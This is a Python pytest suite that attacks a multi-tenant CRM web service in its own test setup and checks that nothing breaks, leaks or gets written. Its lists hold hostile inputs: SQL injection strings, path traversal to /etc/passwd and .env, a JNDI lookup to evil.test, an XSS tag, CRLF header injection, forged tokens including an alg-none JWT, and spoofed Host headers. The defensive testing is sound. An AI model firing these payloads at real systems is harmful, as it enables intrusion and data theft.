"""What somebody tries who means harm, at every route and as every role: nothing breaks, leaks or gives way."""

import asyncio
import contextlib
import functools
import json
import logging
import re
import secrets
import socket
import time
from collections.abc import Iterator
from typing import Any
from urllib.parse import quote, urlsplit
from uuid import UUID, uuid4

import httpx
import pytest

from warehouse_pipelines import warehouse
from warehouse_pipelines.errors import DatabaseUnavailable
from warehouse_pipelines.local.postgres import Server
from warehouse_pipelines.schema.migrate import migrate
from warehouse_pipelines.serving import app as application
from warehouse_pipelines.serving import database, guard
from warehouse_pipelines.serving.database import CRM_APP, READ_MASKED, Pool
from warehouse_pipelines.serving.guard import GuardedRoute, Visitor
from warehouse_pipelines.serving.rights import EVERYONE, ROLES
from warehouse_pipelines_tests.harness import crm_database
from warehouse_pipelines_tests.harness.crm_database import A, B
from warehouse_pipelines_tests.harness.serving import Serving, serving
from warehouse_pipelines_tests.harness.visitors import PASSWORD, Browser, add_user, program, token_of

WRITES = ("POST", "PATCH", "PUT", "DELETE")
ROUTES = [(method, route) for route in application.guarded_routes() for method in sorted(route.methods or ())]
API = [(method, route) for method, route in ROUTES if route.path.startswith("/api/")]


def each(routes: list[tuple[str, GuardedRoute]]) -> pytest.MarkDecorator:
    return pytest.mark.parametrize(("method", "route"), routes, ids=[f"{method} {one.path}" for method, one in routes])


def writes(routes: list[tuple[str, GuardedRoute]]) -> list[tuple[str, GuardedRoute]]:
    return [(method, route) for method, route in routes if method in WRITES]


HOSTILE = (
    "'; DROP TABLE crm.leads; --", '" OR 1=1 --', "1) UNION SELECT password_hash FROM access.user_account --", "%s",
    "%(id)s", "{0}", "../../../etc/passwd", "..%2f..%2fetc%2fpasswd", "\u0000", "\ud7ff\uffff",
    "<script>alert(1)</script>", "${jndi:ldap://evil.test}", "A" * 5_000, "\r\nSet-Cookie: a=b", "٣", "-1", "1e400",
    "null", "[]", "true",
)  # fmt: skip


@pytest.fixture(scope="module")
def serve(shared_url: str) -> Iterator[Serving]:
    with crm_database.session(shared_url, role=None, keep=True) as connection:
        for organization in (A, B):
            crm_database.populate(connection, organization)
    with serving(shared_url, warehouse_dagster_api_url="http://127.0.0.1:1") as found:
        yield found


@pytest.fixture(scope="module")
def programs(serve: Serving) -> Iterator[dict[str, httpx.Client]]:
    found = {role: program(serve.address, serve.url, role) for role in ROLES}
    yield found
    for client in found.values():
        client.close()


def filled(route: GuardedRoute, value: str) -> str:
    return re.sub(r"\{\w+\}", quote(value, safe=""), route.path)


def counts(url: str) -> dict[str, Any]:
    with warehouse.session(url) as session:
        [row] = session.execute("""
            SELECT (SELECT count(*) FROM crm.leads) AS leads, (SELECT count(*) FROM crm.dnc_list) AS listed,
                (SELECT count(*) FROM crm.nurture_sequences) AS sequences,
                (SELECT count(*) FROM access.user_account WHERE role = 'admin') AS admins,
                (SELECT md5(string_agg(l::text, '' ORDER BY id)) FROM crm.leads AS l) AS content
            """).fetchall()
    return row


@each(ROUTES)
def test_hostile_values_break_nothing(
    serve: Serving, programs: dict[str, httpx.Client], method: str, route: GuardedRoute
) -> None:
    """All of them from who is let in; of who is refused before anything is read, a few."""
    before = counts(serve.url)
    names = [field.alias for field in route.dependant.query_params]
    few = HOSTILE[::5]
    stranger, admin = (HOSTILE, few) if route.right == EVERYONE else (few, HOSTILE)
    for role, client, values in ((None, serve.client, stranger), ("admin", programs["admin"], admin)):
        for value in values:
            given = dict.fromkeys([*names, "no_such_parameter"], value)
            body = dict.fromkeys(("first_name", "status", "phone", "name", "steps", "crm", "reason", "x"), value)
            sent: dict[str, Any] = {"json": body} if method in WRITES else {}
            answer = client.request(method, filled(route, value), params=given, **sent)
            assert answer.status_code < 500 or "Dagster" in answer.text, (role, value[:40], answer.text)
            assert "<script>" not in answer.text
            assert "argon2" not in answer.text
            assert "a=b" not in answer.headers.get("set-cookie", "")
    assert counts(serve.url) == before


@each(writes(API))
def test_bodies_of_the_wrong_shape_break_nothing(
    serve: Serving, programs: dict[str, httpx.Client], method: str, route: GuardedRoute
) -> None:
    client, path = programs["admin"], filled(route, str(UUID(int=7)))
    shapes: list[tuple[bytes, str]] = [
        (b"", "application/json"), (b"{", "application/json"), (b"[" * 100_000, "application/json"),
        (b'{"a":' * 5_000 + b"1" + b"}" * 5_000, "application/json"), (b'"text"', "application/json"),
        (b'{"first_name": "\\ud800"}', "application/json"), (b"\xff\xfe", "application/json"),
        (b'{"value_usd": 1e999999}', "application/json"), (b'{"value_usd": ' + b"9" * 5_000 + b"}", "application/json"),
        (b"a=b", "application/x-www-form-urlencoded"), (b"a=b&" * 2_000, "application/x-www-form-urlencoded"),
        (b"--x\r\n\r\n--x--", "multipart/form-data; boundary=x"), (b"<a/>", "application/xml"),
        (b'{"first_name": "A", "first_name": "B", "__proto__": {}}', "application/json"),
    ]  # fmt: skip
    for body, kind in shapes:
        answer = client.request(method, path, content=body, headers={"Content-Type": kind})
        assert answer.status_code < 500 or "Dagster" in answer.text, (body[:40], answer.text)


@each(writes(ROUTES))
def test_a_body_that_is_too_large_is_not_read(
    serve: Serving, programs: dict[str, httpx.Client], method: str, route: GuardedRoute
) -> None:
    client, path = programs["admin"], filled(route, str(UUID(int=7)))

    def endless() -> Iterator[bytes]:
        for _ in range(40):
            yield b"x" * 100_000

    for content in (b"x" * (guard.LARGEST_BODY + 1), endless()):
        try:
            answer = client.request(method, path, content=content, headers={"Content-Type": "application/json"})
            assert answer.status_code == 413, answer.text
        except (httpx.WriteError, httpx.ReadError, httpx.RemoteProtocolError):
            pass  # it hung up while more was being sent


def test_who_does_not_sign_in_sends_no_body_at_all(serve: Serving) -> None:
    """The answer comes before the body does: 401 costs a look-up and no memory."""
    with socket.create_connection(urlsplit(serve.address).netloc.split(":"), timeout=30) as line:  # type: ignore[arg-type]
        head = (
            "POST /api/leads HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\n"
            "Content-Length: 900000\r\n\r\n{"
        )
        line.sendall(head.encode())
        assert line.recv(100).startswith(b"HTTP/1.1 401")


def test_a_body_that_does_not_come_is_given_up(serve: Serving, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(guard, "BODY_SECONDS", 0.3)
    token = token_of(serve.url, add_user(serve.url, "admin"))
    with socket.create_connection(urlsplit(serve.address).netloc.split(":"), timeout=30) as line:  # type: ignore[arg-type]
        line.sendall(
            f"POST /api/leads HTTP/1.1\r\nHost: localhost\r\nAuthorization: Bearer {token}\r\n"
            "Content-Type: application/json\r\nContent-Length: 100\r\n\r\n{".encode()
        )
        assert line.recv(100).startswith(b"HTTP/1.1 408")


@each([one for one in API if "{lead_id}" in one[1].path])
def test_what_is_another_organizations_is_not_there(
    serve: Serving, programs: dict[str, httpx.Client], method: str, route: GuardedRoute
) -> None:
    """Every route that takes an id, as every role, with each id that the other organization has."""
    with warehouse.session(serve.url) as session:
        theirs = [str(row["id"]) for row in session.execute(
            "SELECT id FROM crm.leads WHERE organization_id = %s UNION SELECT id FROM crm.nurture_sequences"
            " WHERE organization_id = %s", [B, B]).fetchall()]  # fmt: skip
        [sequence] = session.execute(
            "SELECT id FROM crm.nurture_sequences WHERE organization_id = %s LIMIT 1", [A]
        ).fetchall()
    before = counts(serve.url)
    bodies = {"PATCH": {"first_name": "Mallory"}, "POST": {"sequence_id": str(sequence["id"])}}
    for client in programs.values():
        for one in theirs:
            sent: dict[str, Any] = {"json": bodies[method]} if method in bodies else {}
            answer = client.request(method, filled(route, one), **sent)
            assert answer.status_code in (403, 404), answer.text
            assert answer.text == client.request(method, filled(route, str(uuid4())), **sent).text, "as for any id"
    assert counts(serve.url) == before


def test_no_body_takes_a_field_that_nobody_declared(serve: Serving, programs: dict[str, httpx.Client]) -> None:
    """Mass assignment, by the documentation, which is made of what is checked, and by trying."""
    described = serve.client.get("/api/openapi.json").json()
    bodies = [
        operation["requestBody"]["content"]["application/json"]["schema"]["$ref"].rpartition("/")[2]
        for methods in described["paths"].values()
        for operation in methods.values()
        if "requestBody" in operation
    ]
    assert len(bodies) >= 6
    forbidden = {
        "organization_id",
        "id",
        "created_at",
        "created_by",
        "updated_at",
        "erased_at",
        "lead_score",
        "user_id",
    }
    for name in bodies:
        schema = described["components"]["schemas"][name]
        assert schema["additionalProperties"] is False, name
        assert not forbidden & schema["properties"].keys(), name
    answer = programs["admin"].post("/api/leads", json={"first_name": "A", "organization_id": B})
    assert answer.status_code == 422


def test_tokens_that_nobody_gave_do_not_hold(serve: Serving) -> None:
    good = token_of(serve.url, add_user(serve.url, "admin"))
    other = "A" if good[-1] != "A" else "B"
    with warehouse.session(serve.url) as session:
        [row] = session.execute("SELECT token_hash FROM access.api_token LIMIT 1").fetchall()
    forged = [
        f"Bearer {good[:-1]}{other}", f"Bearer {good}x", f"Bearer {good.lower()}",
        f"Bearer wht_{secrets.token_urlsafe(32)}", f"Bearer {bytes(row['token_hash']).hex()}", "Bearer", "",
        f"Basic {good}", f"Token {good}", good, f"Bearer {good}, Bearer {good}", "Bearer wht_" + "A" * 1_000,
        "Bearer eyJhbGciOiJub25lIn0.eyJzdWIiOiJhZG1pbiJ9.", f"Bearer {good[:20]} {good[20:]}",
        "Bearer wht_" + "%00" * 14,
    ]  # fmt: skip
    for one in forged:
        assert serve.client.get("/api/crms", headers={"Authorization": one}).status_code == 401, one
    assert serve.client.get("/api/crms", headers={"Authorization": f"bearer {good}"}).status_code == 200
    assert serve.client.get(f"/api/crms?access_token={good}&token={good}").status_code == 401, "an address is logged"


def test_a_bad_token_is_not_made_good_by_a_cookie(serve: Serving) -> None:
    browser = Browser(serve.address)
    browser.login(add_user(serve.url, "admin", password=PASSWORD))
    assert browser.get("/api/crms").status_code == 200
    assert browser.get("/api/crms", headers={"Authorization": "Bearer wht_nonsense"}).status_code == 401


def test_cookies_that_nobody_gave_do_not_hold(serve: Serving) -> None:
    with warehouse.session(serve.url) as session:
        user = add_user(serve.url, "admin")
        session.execute(
            "INSERT INTO access.session (token_hash, user_id, expires_at)"
            " SELECT sha256('known'), id, now() + interval '1 day' FROM access.user_account WHERE name = %s", [user]
        )  # fmt: skip
    browser = Browser(serve.address)
    for value in ("", "x", "A" * 10_000, "' OR true --", "\\x00", "%00", bytes(32).hex()):
        browser.cookies = {"__Host-warehouse_session": value}
        assert browser.get("/").status_code == 303, value[:30]
    browser.cookies = {"warehouse_session": "known"}
    assert browser.get("/").status_code == 303, "behind HTTPS the name is one that no neighbouring site can set"


@pytest.mark.parametrize("path", [
    "/static/../app.py", "/static/%2e%2e/app.py", "/static/..%2fapp.py", "/static//etc/passwd", "/static/%00",
    "/static/", "/static/..\\..\\app.py", "/static/templates/login.html", "/static/....//app.py",
    "/static/%2e%2e%2f%2e%2e%2fsettings.py", "/.env", "/api/../.env", "/docs", "/redoc", "/openapi.json",
    "/metrics/../.env",
])  # fmt: skip
@pytest.mark.every_case
def test_no_other_file_is_served(serve: Serving, path: str) -> None:
    with socket.create_connection(urlsplit(serve.address).netloc.split(":"), timeout=30) as line:  # type: ignore[arg-type]
        line.sendall(f"GET {path} HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n".encode())
        answer = b"".join(iter(lambda: line.recv(65_536), b""))
    assert answer.split()[1] in (b"404", b"405"), answer[:200]


@each([*{route.path: (method, route) for method, route in ROUTES}.values()])
@pytest.mark.every_case
def test_a_method_that_is_not_declared_does_nothing(serve: Serving, programs: dict[str, httpx.Client], method: str,
                                                    route: GuardedRoute) -> None:  # fmt: skip
    path = filled(route, str(UUID(int=7)))
    declared = {one for one, other in ROUTES if other.path_regex.match(path)}
    for other in {"GET", "POST", "PUT", "PATCH", "DELETE", "OPTIONS", "TRACE", "PROPFIND"} - declared:
        assert programs["admin"].request(other, path).status_code in (404, 405), other
    assert programs["viewer"].request("GET", path, headers={"X-HTTP-Method-Override": "DELETE"}).status_code != 204


def test_where_one_is_sent_does_not_depend_on_what_a_stranger_says(serve: Serving) -> None:
    assert serve.client.get("/", headers={"Host": "evil.test"}).status_code == 421
    for headers in ({"X-Forwarded-Host": "evil.test"}, {"Forwarded": "host=evil.test"}):
        answer = serve.client.get("/", headers=headers)
        assert answer.headers["location"] == "/login?next=/"
        page = serve.client.get("/login", params={"next": "//evil.test/x"}, headers=headers)
        assert "evil.test" not in page.text


def test_who_is_not_the_proxy_does_not_say_where_it_comes_from(shared_url: str) -> None:
    """Else the limit of tries and the address in the audit log would be whoever's wish."""
    with serving(shared_url, warehouse_trusted_proxy="10.9.8.7") as serve:
        browser = Browser(serve.address)
        name = secrets.token_hex(6)
        sent = {"csrf_token": browser.csrf(), "name": name, "password": "wrong wrong wrong"}
        for number in range(8):
            browser.post("/login", sent, headers={"X-Forwarded-For": f"192.0.2.{number}"})
        with warehouse.session(shared_url) as session:
            found = session.execute(
                "SELECT address, count(*) AS n FROM access.sign_in_failure WHERE name_hash = sha256(%s) GROUP BY 1",
                [name.encode()],
            ).fetchall()
    assert found == [{"address": "127.0.0.1", "n": 5}]


def test_nothing_secret_or_personal_is_logged(serve: Serving, caplog: pytest.LogCaptureFixture) -> None:
    caplog.set_level(logging.DEBUG)
    name = add_user(serve.url, "admin", password=PASSWORD)
    token = token_of(serve.url, name)
    browser = Browser(serve.address)
    browser.login(name, "a password with a typo")
    browser.login(name)
    client = {"Authorization": f"Bearer {token}"}
    serve.client.post("/api/leads", headers=client, json={"first_name": "Secretname", "phone": "12"})
    serve.client.get("/api/dnc/check", headers=client, params={"phone": "+12065550123"})
    server_side = "\n".join(
        record.getMessage() for record in caplog.records if not record.name.startswith(("httpx", "httpcore"))
    )
    for word in (token, PASSWORD, "a typo", "Secretname", "2065550123", browser.cookies["__Host-warehouse_session"]):
        assert word not in server_side


async def _who(url: str) -> list[tuple[str, str, str]]:
    """Return user, organization and whether it writes, in a session that was lent before in each role."""
    visitor = Visitor(uuid4(), "x", "admin", UUID(A), ROLES["admin"], "192.0.2.1")
    pool = Pool(url, size=1)
    found = []
    ask = """SELECT current_user::text, coalesce(current_setting('app.organization_id', true), ''),
        current_setting('transaction_read_only')"""
    async with pool.acting(CRM_APP, visitor) as session:
        found.append(tuple((await (await session.execute(ask)).fetchone() or {}).values()))
    async with pool.reading(visitor) as session:
        found.append(tuple((await (await session.execute(ask)).fetchone() or {}).values()))
    with pytest.raises(ZeroDivisionError):
        async with pool.acting(CRM_APP, visitor):
            raise ZeroDivisionError
    async with pool.session() as session:
        found.append(tuple((await (await session.execute(ask)).fetchone() or {}).values()))
    await pool.close()
    return found


def test_a_session_that_is_lent_again_has_nobodys_rights(shared_url: str) -> None:
    mine = urlsplit(shared_url).username
    assert asyncio.run(_who(shared_url)) == [(CRM_APP, A, "off"), (READ_MASKED, A, "on"), (mine, "", "off")]


def a_viewer() -> Visitor:
    return Visitor(uuid4(), "x", "viewer", UUID(A), ROLES["viewer"], "192.0.2.1")


def test_who_reads_much_keeps_nobody_from_signing_in(shared_url: str, monkeypatch: pytest.MonkeyPatch) -> None:
    """Whether tables or leads are read, and by however many."""
    monkeypatch.setattr(database, "WAIT_SECONDS", 0.1)

    async def read() -> None:
        pool = Pool(shared_url)
        ways = (pool.reading, functools.partial(pool.acting, CRM_APP, reads=True))
        async with contextlib.AsyncExitStack() as many:
            for number in range(database.SESSIONS - database.SPARED):
                await many.enter_async_context(ways[number % 2](a_viewer()))
            for way in ways:
                with pytest.raises(DatabaseUnavailable):
                    await many.enter_async_context(way(a_viewer()))
            await many.enter_async_context(pool.acting(CRM_APP, a_viewer()))
            async with pool.session() as session:
                await session.execute("SELECT 1")
        await pool.close()

    asyncio.run(read())


def test_one_visitor_takes_no_more_than_a_share_of_the_sessions(
    shared_url: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(database, "WAIT_SECONDS", 0.1)

    async def read() -> None:
        pool, greedy = Pool(shared_url), a_viewer()
        async with contextlib.AsyncExitStack() as many:
            for _ in range(database.EACH):
                await many.enter_async_context(pool.acting(CRM_APP, greedy, reads=True))
            for lent in (pool.reading(greedy), pool.acting(CRM_APP, greedy), pool.session(greedy)):
                with pytest.raises(DatabaseUnavailable):
                    await many.enter_async_context(lent)
            await many.enter_async_context(pool.reading(a_viewer()))
        async with pool.reading(greedy):
            pass
        assert not pool._shares
        await pool.close()

    asyncio.run(read())


@pytest.mark.slow("the same in other circumstances")
def test_what_cannot_be_guessed_is_not_told_by_the_time_it_takes(serve: Serving) -> None:
    """A name that there is and one that there is not take a hash each; a tenth would tell them apart."""
    name = add_user(serve.url, "viewer", password=PASSWORD)
    taken: dict[str, list[float]] = {name: [], "nobody-of-this-name": []}
    for _ in range(2):
        for one, times in taken.items():
            browser = Browser(serve.address)
            token = browser.csrf()
            start = time.process_time()
            browser.post("/login", {"csrf_token": token, "name": one, "password": "wrong wrong wrong"})
            times.append(time.process_time() - start)
    there, nobody = min(taken[name]), min(taken["nobody-of-this-name"])
    assert nobody > there / 3, taken


def test_every_error_of_the_api_is_a_problem(serve: Serving, programs: dict[str, httpx.Client]) -> None:
    for method, route in API:
        if route.right == EVERYONE:
            continue
        for client in (serve.client, programs["admin"]):
            answer = client.request(
                method, filled(route, "?"), content=b"{", headers={"Content-Type": "application/json"}
            )
            if answer.status_code >= 400:
                assert answer.headers["content-type"] == "application/problem+json", (route.path, answer.text)
                assert json.loads(answer.text)["status"] == answer.status_code


@pytest.mark.slow("a server of its own, migrated")
def test_the_user_that_migrates_takes_the_roles_though_it_is_no_superuser(server: Server) -> None:
    """As in docker-compose.yml: it owns the database and may make roles, and may do nothing else."""
    server.start()
    with server.connect("postgres") as connection:
        connection.execute("CREATE ROLE loader LOGIN CREATEROLE PASSWORD 'm'")
        connection.execute("CREATE DATABASE one OWNER loader")
        connection.execute("GRANT SET ON PARAMETER session_replication_role TO loader")
    url = re.sub("//[^@]*@", "//loader:m@", server.url("one"))
    migrate(url)
    assert asyncio.run(_who(url)) == [(CRM_APP, A, "off"), (READ_MASKED, A, "on"), ("loader", "", "off")]
